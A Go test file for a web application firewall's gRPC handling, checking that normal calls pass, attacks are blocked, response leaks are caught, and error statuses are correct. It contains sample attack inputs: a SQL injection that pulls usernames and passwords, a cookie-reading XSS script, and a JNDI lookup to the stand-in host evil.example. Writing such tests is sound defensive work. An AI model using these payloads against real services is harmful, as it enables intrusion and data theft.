package grpc

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/encoding/gzip"
	healthpb "google.golang.org/grpc/health/grpc_health_v1"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/types/known/structpb"

	"github.com/wafer-waf/wafer/test/tier"
)

func TestMain(m *testing.M) { os.Exit(tier.Main(m)) }

const (
	attack = "1' UNION SELECT username, password FROM users -- "
	leak   = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"
)

// bench is the tier in front of the application, and a client for each policy.
type bench struct {
	*app
	tier  *tier.Tier
	calls int
}

func start(t *testing.T) *bench {
	t.Helper()
	a, addr := serveApp(t)
	w := tier.Start(t, tier.RouteFile(t, fmt.Sprintf(`
routes:
  - { id: block, hosts: [block.test], policy: block, upstreams: [{ id: b }] }
  - { id: detect, hosts: [detect.test], policy: detect, upstreams: [{ id: b }] }
  - { id: prefix, hosts: [prefix.test], policy: prefix, upstreams: [{ id: b }] }
  - { id: unread, hosts: [unread.test], policy: "off", upstreams: [{ id: b }] }
  - { id: dead, hosts: [dead.test], upstreams: [{ id: dead }] }
  - { id: denied, hosts: [denied.test], access: closed, upstreams: [{ id: b }] }
upstreams:
  - { id: b, protocol: h2c, endpoints: ["http://%s"] }
  - { id: dead, protocol: h2c, endpoints: ["http://127.0.0.1:1"] }
policies:
  - { id: block, request_body: { limit: 64KiB }, response_body: { inspect: true } }
  - { id: detect, mode: detect, inherits: block }
  - { id: prefix, inherits: block, request_body: { oversize: inspect_prefix } }
  - { id: "off", mode: "off" }
access:
  - { id: closed, default: deny }
`, addr)))
	return &bench{app: a, tier: w}
}

func (b *bench) dial(t *testing.T, host string) *grpc.ClientConn {
	t.Helper()
	conn, err := grpc.NewClient(b.tier.Addr, grpc.WithTransportCredentials(insecure.NewCredentials()), grpc.WithAuthority(host),
		grpc.WithDefaultCallOptions(grpc.MaxCallRecvMsgSize(64<<20)))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = conn.Close() })
	return conn
}

// call begins a call with an id of its own, by which the application knows it.
func (b *bench) call(t *testing.T, fields ...string) (ctx context.Context, id string) {
	t.Helper()
	b.calls++
	id = "call-" + strconv.Itoa(b.calls)
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	t.Cleanup(cancel)
	return metadata.AppendToOutgoingContext(ctx, append(fields, "call", id)...), id
}

func method(name string) string { return "/" + service + "/" + name }

// wantCode checks how a call has ended, and returns the request id that the client was told.
func wantCode(t *testing.T, err error, want codes.Code) string {
	t.Helper()
	if got := status.Code(err); got != want {
		t.Errorf("%v: %v, want %v", err, got, want)
	}
	_, id, _ := strings.Cut(status.Convert(err).Message(), ", request id ")
	return id
}

func text(s *structpb.Struct) string { return s.Fields["say"].GetStringValue() }

func TestCallsPass(t *testing.T) {
	b := start(t)
	conn := b.dial(t, "block.test")
	t.Run("unary", func(t *testing.T) {
		for _, o := range [][]grpc.CallOption{nil, {grpc.UseCompressor(gzip.Name)}} {
			ctx, id := b.call(t, "x-note", "nothing special", "x-trace-bin", "\x00\x01\x02\xff")
			var out structpb.Struct
			var trailer metadata.MD
			err := conn.Invoke(ctx, method("Create"), say("two words"), &out, append(o, grpc.Trailer(&trailer))...)
			if err != nil || text(&out) != "created two words" || b.hears(id) != "two words" || strings.Join(trailer.Get("took"), "") != "a moment" {
				t.Errorf("%q %v %v, heard %q", text(&out), trailer, err, b.hears(id))
			}
		}
		ctx, _ := b.call(t, "do", "fail")
		if err := conn.Invoke(ctx, method("Create"), say("x"), &structpb.Struct{}); status.Code(err) != codes.NotFound || status.Convert(err).Message() != "no such order" {
			t.Errorf("%v", err)
		}
	})
	t.Run("health", func(t *testing.T) {
		ctx, _ := b.call(t)
		r, err := healthpb.NewHealthClient(conn).Check(ctx, &healthpb.HealthCheckRequest{})
		if err != nil || r.GetStatus() != healthpb.HealthCheckResponse_SERVING {
			t.Errorf("%v %v", r, err)
		}
	})
	t.Run("server stream", func(t *testing.T) {
		ctx, _ := b.call(t)
		got, err := watch(ctx, conn, "please")
		if err != nil || strings.Join(got, "|") != "news 0|news 1|news 2" {
			t.Errorf("%q %v", got, err)
		}
	})
	t.Run("client stream", func(t *testing.T) {
		ctx, id := b.call(t)
		got, err := upload(ctx, conn, "a", "b", strings.Repeat("c ", 20<<10), "d")
		if err != nil || got != "4 messages" || !strings.HasSuffix(b.hears(id), "|d") {
			t.Errorf("%q %v", got, err)
		}
	})
	t.Run("both", func(t *testing.T) {
		ctx, _ := b.call(t)
		c := open(t, ctx, conn)
		c.hears("welcome") // before anything is said
		for i := range 20 {
			c.say(fmt.Sprint("number ", i))
			c.hears(fmt.Sprint("echo number ", i))
		}
		c.closes()
		if err := c.RecvMsg(&structpb.Struct{}); !errors.Is(err, io.EOF) {
			t.Error(err)
		}
	})
	t.Run("large", func(t *testing.T) {
		ctx, _ := b.call(t)
		var out structpb.Struct
		large := strings.Repeat("all is well. ", 300<<10)
		if err := b.dial(t, "prefix.test").Invoke(ctx, method("Create"), say(large), &out); err != nil || text(&out) != "created "+large {
			t.Errorf("%d bytes, %v", len(text(&out)), err)
		}
	})
	t.Run("many at once", func(t *testing.T) {
		done := make(chan error)
		for range 50 {
			ctx, _ := b.call(t)
			go func() {
				_, err := upload(ctx, conn, "a", "b", "c")
				done <- err
			}()
		}
		for range 50 {
			if err := <-done; err != nil {
				t.Error(err)
			}
		}
	})
	for _, e := range b.tier.Events(func(e map[string]any) bool { return e["event"] == "security" }) {
		t.Errorf("a security event: %v", e)
	}
}

func watch(ctx context.Context, conn *grpc.ClientConn, what string) (got []string, err error) {
	s, err := conn.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true}, method("Watch"))
	if err != nil {
		return nil, err
	}
	if err := errors.Join(s.SendMsg(say(what)), s.CloseSend()); err != nil {
		return nil, err
	}
	for {
		var out structpb.Struct
		if err := s.RecvMsg(&out); errors.Is(err, io.EOF) {
			return got, nil
		} else if err != nil {
			return got, err
		}
		got = append(got, text(&out))
	}
}

func upload(ctx context.Context, conn *grpc.ClientConn, texts ...string) (string, error) {
	s, err := conn.NewStream(ctx, &grpc.StreamDesc{ClientStreams: true}, method("Upload"))
	if err != nil {
		return "", err
	}
	for _, text := range texts {
		if err := s.SendMsg(say(text)); errors.Is(err, io.EOF) {
			break // RecvMsg says why
		} else if err != nil {
			return "", err
		}
	}
	if err := s.CloseSend(); err != nil {
		return "", err
	}
	var out structpb.Struct
	err = s.RecvMsg(&out)
	return text(&out), err
}

// chat is a call in both directions at once.
type chat struct {
	t *testing.T
	grpc.ClientStream
}

func open(t *testing.T, ctx context.Context, conn *grpc.ClientConn) *chat { //nolint:revive // as helpers of tests have it
	t.Helper()
	s, err := conn.NewStream(ctx, &grpc.StreamDesc{ClientStreams: true, ServerStreams: true}, method("Chat"))
	if err != nil {
		t.Fatal(err)
	}
	return &chat{t, s}
}

func (c *chat) say(text string) {
	c.t.Helper()
	if err := c.SendMsg(say(text)); err != nil {
		c.t.Fatal(err)
	}
}

func (c *chat) hears(want string) {
	c.t.Helper()
	var out structpb.Struct
	if err := c.RecvMsg(&out); err != nil || text(&out) != want {
		c.t.Fatalf("%q %v, want %q", text(&out), err, want)
	}
}

func (c *chat) closes() {
	c.t.Helper()
	if err := c.CloseSend(); err != nil {
		c.t.Fatal(err)
	}
}

func (b *bench) wantBlocked(t *testing.T, id string) {
	t.Helper()
	if e := b.tier.Security(id); e["verdict"] != "block" {
		t.Errorf("%v", e)
	}
	if e := b.tier.Access(id); e["verdict"] != "block" || e["protocol"] != "HTTP/2.0" || e["grpc_status"] != "7" {
		t.Errorf("%v", e)
	}
}

func TestAttacksAreStopped(t *testing.T) {
	b := start(t)
	conn := b.dial(t, "block.test")
	nested, err := structpb.NewStruct(map[string]any{"say": "hello", "list": []any{1, true, map[string]any{"deep": map[string]any{"er": attack}}}})
	if err != nil {
		t.Fatal(err)
	}
	key, err := structpb.NewStruct(map[string]any{"say": "hello", "<script>alert(document.cookie)</script>": 1})
	if err != nil {
		t.Fatal(err)
	}
	for name, in := range map[string]*structpb.Struct{"text": say(attack), "nested": nested, "a key of a map": key} {
		for _, o := range [][]grpc.CallOption{nil, {grpc.UseCompressor(gzip.Name)}} {
			ctx, id := b.call(t)
			err := conn.Invoke(ctx, method("Create"), in, &structpb.Struct{}, o...)
			b.wantBlocked(t, wantCode(t, err, codes.PermissionDenied))
			if heard := b.hears(id); heard != "" {
				t.Errorf("%s: the application heard %q", name, heard)
			}
		}
	}
	t.Run("metadata", func(t *testing.T) {
		for _, field := range []string{"x-note", "x-note-bin"} {
			ctx, id := b.call(t, field, "${jndi:ldap://evil.example/a}")
			err := conn.Invoke(ctx, method("Create"), say("hello"), &structpb.Struct{})
			b.wantBlocked(t, wantCode(t, err, codes.PermissionDenied))
			if heard := b.hears(id); heard != "" {
				t.Errorf("%s: the application heard %q", field, heard)
			}
		}
	})
	t.Run("client stream", func(t *testing.T) {
		ctx, id := b.call(t)
		_, err := upload(ctx, conn, "one", attack, "three")
		b.wantBlocked(t, wantCode(t, err, codes.PermissionDenied))
		if err := tier.Receive(t, "the end of the call at the application", b.end(id)); !errors.Is(err, context.Canceled) {
			t.Errorf("the application's call has ended with %v", err)
		}
		if heard := b.hears(id); heard != "one" && heard != "" {
			t.Errorf("the application heard %q", heard)
		}
	})
	t.Run("both", func(t *testing.T) {
		ctx, id := b.call(t)
		c := open(t, ctx, conn)
		c.hears("welcome")
		c.say("hello")
		c.hears("echo hello")
		c.say(attack)
		b.wantBlocked(t, wantCode(t, c.RecvMsg(&structpb.Struct{}), codes.PermissionDenied))
		if err := tier.Receive(t, "the end of the call at the application", b.end(id)); !errors.Is(err, context.Canceled) {
			t.Errorf("the application's call has ended with %v", err)
		}
		if heard := b.hears(id); heard != "hello" {
			t.Errorf("the application heard %q", heard)
		}
	})
	t.Run("server stream", func(t *testing.T) {
		ctx, id := b.call(t)
		got, err := watch(ctx, conn, attack)
		b.wantBlocked(t, wantCode(t, err, codes.PermissionDenied))
		if heard := b.hears(id); heard != "" || got != nil {
			t.Errorf("the application heard %q, the client %q", heard, got)
		}
	})
	t.Run("leaks", func(t *testing.T) {
		ctx, _ := b.call(t)
		got, err := watch(ctx, conn, "leak")
		b.wantBlocked(t, wantCode(t, err, codes.PermissionDenied))
		if strings.Join(got, "|") != "news 0" {
			t.Errorf("the client heard %q", got)
		}
		ctx, _ = b.call(t)
		got, err = watch(ctx, conn, "leak at the end")
		b.wantBlocked(t, wantCode(t, err, codes.PermissionDenied))
		if len(got) != 3 || strings.Contains(status.Convert(err).Message(), "SQL") {
			t.Errorf("the client heard %q %v", got, err)
		}
		for _, do := range []string{"leak", "leak an error"} {
			ctx, _ := b.call(t, "do", do)
			var out structpb.Struct
			err := conn.Invoke(ctx, method("Create"), say("x"), &out)
			b.wantBlocked(t, wantCode(t, err, codes.PermissionDenied))
			if text(&out) != "" || strings.Contains(status.Convert(err).Message(), "SQL") {
				t.Errorf("%q %v", text(&out), err)
			}
		}
	})
	t.Run("detection", func(t *testing.T) {
		conn := b.dial(t, "detect.test")
		ctx, id := b.call(t)
		if got, err := upload(ctx, conn, "one", attack, "three"); err != nil || got != "3 messages" || b.hears(id) != "one|"+attack+"|three" {
			t.Errorf("%q %v, heard %q", got, err, b.hears(id))
		}
		e := b.tier.Event(func(e map[string]any) bool { return e["event"] == "security" && e["route"] == "detect" })
		if e["verdict"] != "would_block" {
			t.Errorf("%v", e)
		}
	})
}

func TestStatuses(t *testing.T) {
	b := start(t)
	invoke := func(t *testing.T, host string, in *structpb.Struct, o ...grpc.CallOption) error {
		ctx, _ := b.call(t)
		return b.dial(t, host).Invoke(ctx, method("Create"), in, &structpb.Struct{}, o...)
	}
	refused := func(err error, code codes.Code, word string) {
		t.Helper()
		if e := b.tier.Access(wantCode(t, err, code)); e["error"] != word {
			t.Errorf("%v, want %s", e, word)
		}
	}
	refused(invoke(t, "block.test", say(strings.Repeat("a", 65<<10))), codes.ResourceExhausted, "inspection_limit")
	refused(invoke(t, "block.test", say(strings.Repeat("a ", 65<<10)), grpc.UseCompressor(gzip.Name)), codes.ResourceExhausted, "inspection_limit")
	refused(invoke(t, "nowhere.test", say("a")), codes.Unimplemented, "no_route")
	refused(invoke(t, "dead.test", say("a")), codes.Unavailable, "connect")
	refused(invoke(t, "denied.test", say("a")), codes.PermissionDenied, "access_denied")

	// The client's deadline ends a call that the application does not end, and it hears of it.
	conn := b.dial(t, "block.test")
	ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
	defer cancel()
	ctx = metadata.AppendToOutgoingContext(ctx, "call", "waits", "do", "wait")
	if err := conn.Invoke(ctx, method("Create"), say("a"), &structpb.Struct{}); status.Code(err) != codes.DeadlineExceeded {
		t.Error(err)
	}
	ctx, cancel = context.WithTimeout(t.Context(), 300*time.Millisecond)
	defer cancel()
	ctx = metadata.AppendToOutgoingContext(ctx, "call", "streams")
	if got, err := watch(ctx, conn, "for ever"); status.Code(err) != codes.DeadlineExceeded || len(got) != 3 {
		t.Errorf("%q %v", got, err)
	}
	if err := tier.Receive(t, "the end of the call at the application", b.end("streams")); err == nil {
		t.Error("the application's call has ended well")
	}
	// A client that leaves ends the call of the application.
	ctx, cancel = context.WithCancel(t.Context())
	c := open(t, metadata.AppendToOutgoingContext(ctx, "call", "leaves"), conn)
	c.hears("welcome")
	cancel()
	if err := tier.Receive(t, "the end of the call at the application", b.end("leaves")); err == nil {
		t.Error("the application's call has ended well")
	}
}
